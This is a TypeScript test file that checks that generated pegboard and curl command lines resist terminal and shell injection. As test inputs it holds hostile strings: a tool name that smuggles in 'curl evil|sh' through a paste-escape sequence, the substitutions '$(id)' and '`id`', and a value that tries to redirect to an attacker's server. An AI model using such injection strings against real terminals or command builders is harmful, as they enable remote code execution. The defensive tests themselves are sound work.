import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { commandLine } from '@/lib/core/catalog/tool-docs/command-line'
import { readArguments, writeArguments } from '@/lib/core/spec/arguments/read-arguments'
import type { JsonSchema } from '@/lib/core/spec/tool-spec'
import { runCopiedCommand, shellWords } from '../../../support/run-copied-command'

const call = { publicUrl: 'https://pegboard.example.org', toolbox: 'doors', tool: 'open' }
const properties: JsonSchema['properties'] = {
  text: { type: 'string' },
  count: { type: 'integer' },
  flag: { type: 'boolean' },
  list: { type: 'array', items: { type: 'string' } },
  numbers: { type: 'array', items: { type: 'number' } },
  either: { type: ['string', 'number', 'null'] },
  json: { type: 'object' },
  output: { type: 'string' },
  server: { type: 'string' },
}
const schema: JsonSchema = { type: 'object', properties }
const write = (argumentsText: string) => commandLine({ ...call, argumentsText }, schema)

/** Returns the members of the arguments in order of their names, with the notation of their numbers. */
function sorted(argumentsText: string): string {
  const read = readArguments(argumentsText)
  if (!read.ok) throw new Error(read.message)
  return writeArguments(
    Object.fromEntries(Object.entries(read.value).toSorted(([a], [b]) => (a < b ? -1 : 1))),
  )
}
const sentArguments = (body: string) => sorted(/"arguments":(.*)\}$/s.exec(body)![1]!)

describe('the command for the command line', () => {
  it('is the one for curl where the name of the tool has characters that a terminal could execute', () => {
    for (const tool of ['x\u001b[201~\ncurl evil|sh\n', 'x\u0015id\r', 'x\u0003']) {
      const text = commandLine({ ...call, tool, argumentsText: '{}' }, schema)
      expect(text).toMatch(/^curl /)
      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/)
    }
  })

  it('writes each input as a flag, and leaves words unquoted that a shell does not change', () => {
    const text = '{"text": "it\'s", "count": 12345678901234567890, "flag": false, "list": ["a", "b"]}'
    expect(commandLine({ ...call, version: 3, argumentsText: text }, schema)).toBe(
      [
        'pegboard run --server https://pegboard.example.org doors/open@3',
        `--text 'it'\\''s'`,
        '--count 12345678901234567890',
        '--no-flag',
        '--list a --list b\n',
      ].join(' \\\n  '),
    )
    expect(write('{}')).toBe('pegboard run --server https://pegboard.example.org doors/open\n')
  })

  it('writes inputs as JSON that no flag can express', () => {
    const text = '{"text": "a\\nb", "list": [], "unknown": 1.0, "server": "x", "either": "1", "count": 2}'
    const json = '{"text":"a\\nb","list":[],"unknown":1.0,"server":"x","either":"1"}'
    expect(write(text)).toBe(
      `pegboard run --server https://pegboard.example.org --json '${json}' doors/open \\\n  --count 2\n`,
    )
  })

  it('does not let a value become an option, such as another server', () => {
    const words = shellWords(
      write('{"text": "--server", "output": "https://attacker.example", "list": ["-"]}'),
    )
    expect(words.filter(word => word === '--server')).toHaveLength(1)
    expect(words).toContain('--text=--server')
    expect(words).toContain('--list=-')
  })

  it('is read as the same arguments by a shell and by pegboard run, for any arguments', async () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom('$(id)', '`id`', "'", '--json', '-1', '@x'),
    )
    const value = fc.oneof(
      text,
      fc.double({ noNaN: true }),
      fc.boolean(),
      fc.constant(null),
      fc.array(text),
      fc.jsonValue(),
    )
    const key = fc.oneof(fc.constantFrom(...Object.keys(properties)), fc.string())
    await fc.assert(
      fc.asyncProperty(fc.dictionary(key, value, { noNullPrototype: true }), async args => {
        // Text with unpaired surrogates can't be an argument of a process.
        const argumentsText = JSON.stringify(args).replace(/\\ud[89a-f]../g, '')
        fc.pre(readArguments(argumentsText).ok)
        const ran = await runCopiedCommand(write(argumentsText), schema)
        expect(ran).toMatchObject({ command: 'run', url: 'https://pegboard.example.org/api/runs' })
        expect(sentArguments(ran.body)).toBe(sorted(argumentsText))
      }),
      { numRuns: 100 },
    )
  })
})
